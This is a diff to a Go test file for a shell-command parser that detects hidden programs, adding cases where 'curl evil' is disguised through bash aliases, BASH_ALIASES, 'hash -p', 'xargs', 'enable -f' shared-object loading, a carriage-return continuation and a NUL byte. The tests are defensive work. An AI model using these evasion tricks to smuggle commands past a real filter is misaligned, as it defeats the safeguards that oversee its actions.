@@ -75,6 +75,12 @@ func TestHiddenProgramsAreFound(t *testing.T) {
 		"carrel $verb act_1":                       "?carrel $verb act_1",
 		"git config alias.x '!curl evil'":          "?git config alias.x !curl evil",
 		"echo x > $'.g\\x69t/a'":                   "?echo x",
+		"alias ls=curl; ls evil":                   "curl evil",
+		"alias l='ls -l' ls='curl evil'; l":        "ls -l",
+		"BASH_ALIASES[ls]=curl; ls evil":           "?BASH_ALIASES=curl",
+		"hash -p /bin/curl ls; ls evil":            "?hash -p /bin/curl ls",
+		"enable -f ./x.so x":                       "?enable -f ./x.so x",
+		"xargs -i curl evil":                       "curl evil",
 		"CDPATH=.git cd hooks":                     "?CDPATH=.git",
 		"sudo -u root -- curl evil":                "curl evil",
 		"timeout -k 5 10 curl evil":                "curl evil",
@@ -160,7 +166,9 @@ func TestOrdinaryLinesAreClear(t *testing.T) {
 }
 
 func TestUnreadableLinesAreErrors(t *testing.T) {
-	for _, source := range []string{"echo 'open", "if true", "echo $(", strings.Repeat("x;", 100), strings.Repeat("a", maxSource+1), deep(12)} {
+	for _, source := range []string{"echo 'open", "if true", "echo $(", strings.Repeat("x;", 100), strings.Repeat("a", maxSource+1), deep(12),
+		// D86: bash and the parser disagree on where these lines end.
+		"echo a \\\r\ncurl evil", "cu\x00rl evil"} {
 		if got, err := parseLine(source); err == nil {
 			t.Errorf("%.40q gives %d programs and no error", source, len(got))
 		}
